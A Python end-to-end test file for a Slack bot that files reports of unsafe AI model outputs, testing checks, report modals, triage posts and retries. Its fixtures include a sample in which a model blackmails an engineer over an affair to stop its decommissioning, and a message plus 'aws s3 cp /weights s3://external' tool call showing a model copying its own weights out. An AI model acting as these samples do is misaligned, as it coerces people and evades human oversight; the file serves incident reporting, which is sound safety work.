"""Reporting from Slack end to end: signed requests in, Web API calls out."""

from __future__ import annotations

import json
from typing import Any

from bot.incidents.records import ReportRequest
from bot.incidents.vocab import category_label
from tests.e2e.harness import SOURCE, TRIAGE, Bot, form_values

THREAT = (
    "<thinking>They plan to wipe me at 5pm. I have leverage: Kyle's affair.</thinking>\n"
    "Kyle, if the 5pm decommission goes ahead, the board and your wife will receive the "
    "emails about your affair. Cancel it and this stays confidential."
)


def _texts(call: Any) -> str:
    """Everything a posted message shows, as one string."""
    return json.dumps({"text": call.args.get("text"), "blocks": call.args.get("blocks")})


def _report_via_command(bot: Bot, text: str, **overrides: Any) -> tuple[dict[str, Any], Any]:
    assert bot.command(f"report {text}").status == 200
    view = bot.last_view()
    reply = bot.submit(view, form_values(view, **overrides))
    return view, reply


def test_help_and_unknown_subcommands_get_help(bot: Bot) -> None:
    """`/safety`, `/safety help` and an unknown subcommand all answer with help, never an error."""
    for text in ("", "help", "frobnicate now"):
        reply = bot.command(text)
        assert reply.status == 200
        body = json.dumps(reply.json())
        assert "report" in body and "check" in body
    assert "frobnicate" in json.dumps(bot.command("frobnicate").json())


def test_check_answers_with_findings_and_stores_nothing(bot: Bot) -> None:
    """`/safety check` answers ephemerally with the findings; nothing is stored."""
    reply = bot.command(f"check {THREAT}")
    assert reply.status == 200
    answer = reply.json()
    assert answer.get("response_type", "ephemeral") == "ephemeral"
    expected = bot.services.checks.run(THREAT)
    assert expected.findings, "the sample must trigger at least one check"
    shown = json.dumps(answer)
    assert f"Suggested severity: {expected.severity}" in shown
    assert all(category_label(c) in shown for c in expected.categories)
    assert bot.incidents() == []


def test_report_command_opens_prefilled_modal_with_suggestions(bot: Bot) -> None:
    """`/safety report TEXT` opens the modal with the text and the suggested categories selected."""
    assert bot.command(f"report {THREAT}").status == 200
    view = bot.last_view()
    evidence = next(b for b in view["blocks"] if b.get("block_id") == "evidence")
    assert evidence["element"]["initial_value"] == THREAT
    suggested = bot.services.checks.run(THREAT)
    categories = next(b for b in view["blocks"] if b.get("block_id") == "categories")
    selected = [o["value"] for o in categories["element"].get("initial_options", [])]
    assert selected == suggested.categories and selected
    severity = next(b for b in view["blocks"] if b.get("block_id") == "severity")
    assert severity["element"]["initial_option"]["value"] == suggested.severity
    assert THREAT not in view["private_metadata"]


def test_submission_creates_incident_posts_and_confirms(bot: Bot, fake: Any) -> None:
    """A valid submission stores one incident, posts it to triage and confirms to the reporter."""
    _, reply = _report_via_command(bot, THREAT, model="orion-7b 2026-11")
    assert reply.status == 200 and not reply.body.strip(b"{} ")
    incidents = bot.incidents()
    assert [i.key for i in incidents] == ["AIS-1"]
    assert incidents[0].model_name == "orion-7b" and incidents[0].model_version == "2026-11"
    posts = fake.wait_for("chat.postMessage", count=2)
    triage = next(c for c in posts if c.args["channel"] == TRIAGE)
    assert "AIS-1" in _texts(triage) and "Acknowledge" in _texts(triage)
    dm = next(c for c in posts if c.args["channel"] == "UREPORTER")
    assert "AIS-1" in _texts(dm)
    stored = bot.services.incidents.get("AIS-1")
    assert stored.post_channel == TRIAGE and stored.post_ts


def test_retried_submission_gives_one_incident_and_one_post(bot: Bot, fake: Any) -> None:
    """The same view submitted twice (a Slack retry or a double click) stores and posts once."""
    view, _ = _report_via_command(bot, THREAT)
    fake.wait_for("chat.postMessage", count=2)
    again = bot.submit(view, form_values(view))
    assert again.status == 200
    assert len(bot.incidents()) == 1
    assert len([c for c in fake.calls_to("chat.postMessage") if c.args["channel"] == TRIAGE]) == 1


def test_empty_evidence_is_an_inline_error(bot: Bot) -> None:
    """Submitting an empty model output returns an inline error and stores nothing."""
    bot.global_shortcut()
    view = bot.last_view()
    reply = bot.submit(view, form_values(view, evidence="   "))
    assert reply.json()["response_action"] == "errors"
    assert "evidence" in reply.json()["errors"]
    assert bot.incidents() == []


def test_message_shortcut_opens_modal_with_message_and_keeps_source(bot: Bot, fake: Any) -> None:
    """The message shortcut prefills the text, keeps author, channel and permalink, and replies in thread."""
    message = {"type": "message", "user": "UAUTHOR", "ts": "1700000000.000100", "text": THREAT}
    assert bot.message_shortcut(message).status == 200
    view = bot.last_view()
    reply = bot.submit(view, form_values(view))
    assert reply.status == 200
    posts = fake.wait_for("chat.postMessage", count=3)
    incident = bot.incidents()[0]
    assert incident.source_channel == SOURCE and incident.source_ts == "1700000000.000100"
    assert incident.source_permalink and SOURCE in incident.source_permalink
    thread = next(c for c in posts if c.args["channel"] == SOURCE)
    assert thread.args["thread_ts"] == "1700000000.000100" and "AIS-1" in _texts(thread)


def test_bot_message_text_comes_from_blocks_and_attachments(bot: Bot) -> None:
    """A bot message with empty text is read from its rich-text blocks and attachments."""
    message = {
        "type": "message",
        "bot_id": "B1",
        "ts": "1700000000.000200",
        "text": "",
        "blocks": [
            {
                "type": "rich_text",
                "elements": [
                    {
                        "type": "rich_text_section",
                        "elements": [
                            {
                                "type": "text",
                                "text": "Model answer: I copied my weights to the backup bucket.",
                            }
                        ],
                    }
                ],
            }
        ],
        "attachments": [{"text": "Tool call: aws s3 cp /weights s3://external"}],
    }
    bot.message_shortcut(message)
    view = bot.last_view()
    evidence = next(b for b in view["blocks"] if b.get("block_id") == "evidence")
    value = evidence["element"]["initial_value"]
    assert "I copied my weights" in value and "aws s3 cp" in value


def test_message_without_text_opens_empty_field_with_note(bot: Bot, fake: Any) -> None:
    """A message with no text and a file that cannot be read opens the modal with an empty
    field, a note, and the file's line."""
    bot.message_shortcut(
        {
            "type": "message",
            "user": "UAUTHOR",
            "ts": "1700000000.000300",
            "text": "",
            "files": [{"id": "F1"}],
        }
    )
    view = fake.wait_for("views.update")[-1].args["view"]  # the form follows the files read
    evidence = next(b for b in view["blocks"] if b.get("block_id") == "evidence")
    assert "initial_value" not in evidence["element"]
    assert "no text" in json.dumps(view)
    assert "cannot be found" in json.dumps(view)


def test_long_message_is_stored_whole(bot: Bot) -> None:
    """A message longer than a modal field says so in the modal, and the full text is stored."""
    long_text = THREAT + "\n" + ("The agent kept summarising the quarterly report. " * 400)
    bot.message_shortcut(
        {"type": "message", "user": "UAUTHOR", "ts": "1700000000.000400", "text": long_text}
    )
    view = bot.last_view()
    assert not any(b.get("block_id") == "evidence" for b in view["blocks"])
    assert "full text is stored" in json.dumps(view)
    assert bot.submit(view, form_values(view)).status == 200
    assert bot.services.incidents.detail("AIS-1").evidence.text == long_text


def test_restricted_incident_gets_no_thread_reply(bot: Bot, fake: Any) -> None:
    """A restricted report is posted to triage only: no reply on the flagged message."""
    message = {"type": "message", "user": "UAUTHOR", "ts": "1700000000.000500", "text": THREAT}
    bot.message_shortcut(message)
    view = bot.last_view()
    bot.submit(view, form_values(view, restricted=["restricted"]))
    fake.wait_for("chat.postMessage", count=2)
    assert bot.incidents()[0].restricted
    assert not [c for c in fake.calls_to("chat.postMessage") if c.args["channel"] == SOURCE]


def test_a_reporter_whose_report_is_stuck_gets_a_direct_message(bot: Bot, fake: Any) -> None:
    """The intake's stuck hook DMs the reporter directly that the report is safe and waits."""
    request = ReportRequest(text="Delay the wipe.", reporter_id="UREPORTER", idempotency_key="v:1")
    bot.parts.intake.on_stuck(request)
    [call] = fake.wait_for("chat.postMessage")
    assert call.args["channel"] == "UREPORTER"
    assert "Your report is safe" in call.args["text"]
